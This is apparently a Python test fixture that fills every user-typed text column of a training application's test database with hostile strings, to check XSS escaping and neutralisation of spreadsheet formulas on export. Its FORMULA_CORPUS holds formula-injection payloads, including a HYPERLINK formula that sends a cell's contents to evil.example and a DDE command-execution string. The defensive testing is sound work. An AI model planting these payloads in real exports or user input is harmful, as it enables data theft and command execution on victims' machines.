"""Hostile text in every field a person can type or import, for the XSS and export-formula corpora.

`poison()` overwrites every row's user-supplied text columns of the page-render world (`real_arguments`) with a
payload that starts with a formula character and carries an XSS vector, so one world serves both walks.
`TEXT_FIELDS` lists those columns; every other text column is in `TECHNICAL` with the reason it is not free text.
Staff numbers are free text too (any 32 characters); they are poisoned for everyone but the people who must
still log in.
A new text column fails `test_every_text_column_is_classified` until it is put in one of the two.
"""

import sqlalchemy as sa

from app.audit import actions
from app.audit.services import record
from app.core.clock import utcnow
from app.extensions import db
from tests.banks.test_rendering_xss import PAYLOADS as XSS

# Every form of a formula start the exports must neutralise, and the classic payloads behind them.
FORMULAS = ["=", "+", "-", "@", "\t=", "＝", "＋", "－", "＠", "﹦", "⁼"]
FORMULA_CORPUS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0", "+1+1", "-1+1",
                  "@SUM(1,1)", "\t=1+1", "\r=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)", "﹦1+1", "⁼1+1"]

TEXT_FIELDS = {
    "courses": ["name", "name_en", "description"],
    "offices": ["name"],
    "topics": ["name"],
    "stations": ["name"],
    "teams": ["name"],
    "users": ["name", "position"],
    "api_clients": ["name"],
    "attendance_waivers": ["reason"],
    "banks": ["name", "description"],
    "evaluation_schemes": ["note"],
    "exams": ["title", "description"],
    "lessons": ["title", "body"],
    "login_sessions": ["user_agent"],  # a request header: anyone can send anything
    "pending_uploads": ["filename"],
    "staff_unavailability": ["reason"],
    "training_plans": ["name"],
    "exam_extra_time": ["reason"],
    "lesson_attachments": ["filename"],
    "training_batches": ["name"],
    "evaluations": ["override_reason"],
    "question_versions": ["stem", "explanation", "source"],
    "training_sessions": ["room"],
    "calendar_cancellations": ["summary", "location"],  # copies of a course, batch and room name
    "attendance": ["note"],
    "paper_items": ["comment"],
    "regrades": ["reason"],
    "question_external_ids": ["external_id"],  # the 编号/ID column of a bank file
}
SPECIAL = {"users.staff_no": "poisoned for everyone who need not log in"}
JSON_TEXT_FIELDS = {"question_versions": ["options"]}  # lists of strings
TECHNICAL = {
    "courses.code": "one of four fixed codes",
    "images.sha256": "computed", "images.content_type": "sniffed from the bytes",
    "stations.kind": "station or point",
    "users.password_hash": "computed", "users.locale": "zh_Hans or en",
    "api_clients.token_prefix": "generated", "api_clients.token_hash": "computed",
    "audit_events.actor_staff_no": "append-only table: hostile rows are added by `poison`",
    "audit_events.ip": "from the socket or ProxyFix", "audit_events.action": "a constant",
    "audit_events.target_type": "a table name", "audit_events.target_id": "an id",
    "evaluation_schemes.attendance_mode": "enumerated", "evaluation_schemes.makeup_rule": "enumerated",
    "exams.status": "enumerated", "exams.release_score": "enumerated", "exams.release_review": "enumerated",
    "login_sessions.token_hash": "computed", "login_sessions.end_reason": "a constant",
    "login_sessions.ip": "from the socket or ProxyFix",
    "pending_uploads.token_hash": "computed", "pending_uploads.kind": "a constant",
    "user_roles.role": "enumerated", "attempts.status": "enumerated", "attempts.submitted_how": "enumerated",
    "blueprint_rules.type": "a question type", "lesson_attachments.content_type": "sniffed from the bytes",
    "lesson_attachments.sha256": "computed", "questions.status": "enumerated",
    "training_batches.status": "enumerated", "evaluations.rating": "enumerated", "evaluations.outcome": "enumerated",
    "evaluations.override_outcome": "enumerated", "question_versions.type": "a question type",
    "question_versions.fingerprint": "computed", "training_sessions.slot": "enumerated",
    "attendance.status": "enumerated", "attendance.via": "enumerated", "checkin_codes.code": "six digits",
    "paper_items.changed_by": "a window id: 32 hex digits, checked by the save route", "regrades.action": "enumerated",
    "lessons.shipped_file": "a shipped lesson's file name, written by the demo loader",
    "lessons.shipped_sha256": "computed",
    "calendar_tokens.token_hash": "computed", "calendar_cancellations.slot": "enumerated",
}


def text_columns() -> set[str]:
    """Every String or Text column of the schema that is not a foreign key, as table.column."""
    return {f"{table.name}.{column.name}" for table in db.metadata.sorted_tables for column in table.columns
            if isinstance(column.type, sa.String | sa.Text) and not column.foreign_keys}


def payload(index: int, length: int | None = None) -> str:
    """A formula start followed by an XSS vector, cut to fit a column of `length` characters."""
    text = FORMULAS[index % len(FORMULAS)] + "1+1 " + XSS[index % len(XSS)]
    return text[:length] if length else text


def _give_every_question_an_external_id() -> None:
    """As a bank file with an ID column would, so the IDs are poisoned and shown too."""
    from app.banks.models import Bank, Question, QuestionExternalId

    rows = db.session.execute(sa.select(Question.id, Bank.course_id).join(Bank, Question.bank_id == Bank.id)
                              .where(Question.id.not_in(sa.select(QuestionExternalId.question_id)))).all()
    db.session.add_all(QuestionExternalId(question_id=question_id, course_id=course_id, external_id=f"q{question_id}")
                       for question_id, course_id in rows)
    db.session.flush()


def poison(keep_staff_no=()) -> int:
    """Overwrite every user-supplied text of every row (staff numbers but those of `keep_staff_no`, users who
    must still log in); add an audit row carrying hostile text. Returns the number of columns poisoned."""
    db.session.flush()
    _give_every_question_an_external_id()
    users = db.metadata.tables["users"]
    kept = [user.id for user in keep_staff_no]
    for (row_id,) in db.session.execute(sa.select(users.c.id).where(users.c.id.not_in(kept))).all():
        db.session.execute(users.update().where(users.c.id == row_id).values(staff_no=f"=1+1<b>{row_id}"))
    index = 0
    for table in db.metadata.sorted_tables:
        for name in TEXT_FIELDS.get(table.name, ()):
            column = table.columns[name]
            length = getattr(column.type, "length", None)
            [key] = table.primary_key.columns
            for (row_id,) in db.session.execute(sa.select(key)).all():
                suffix = f" #{row_id}"  # some names are unique
                text = payload(index, length - len(suffix) if length else None) + suffix
                db.session.execute(table.update().where(key == row_id).values({name: text}))
            index += 1
        for name in JSON_TEXT_FIELDS.get(table.name, ()):
            for row_id, values in db.session.execute(sa.select(table.c.id, table.c[name])).all():
                hostile = [payload(index + offset) + f" #{offset}" for offset in range(len(values or []))]
                db.session.execute(table.update().where(table.c.id == row_id).values({name: hostile}))
            index += 1
    record(actions.LOGIN_FAILED, actor=None, ip="127.0.0.1", now=utcnow(), actor_label=payload(index, 32),
           details={"staff_no": payload(index, 32), "reason": payload(index + 1)})
    db.session.commit()
    db.session.expire_all()
    return index
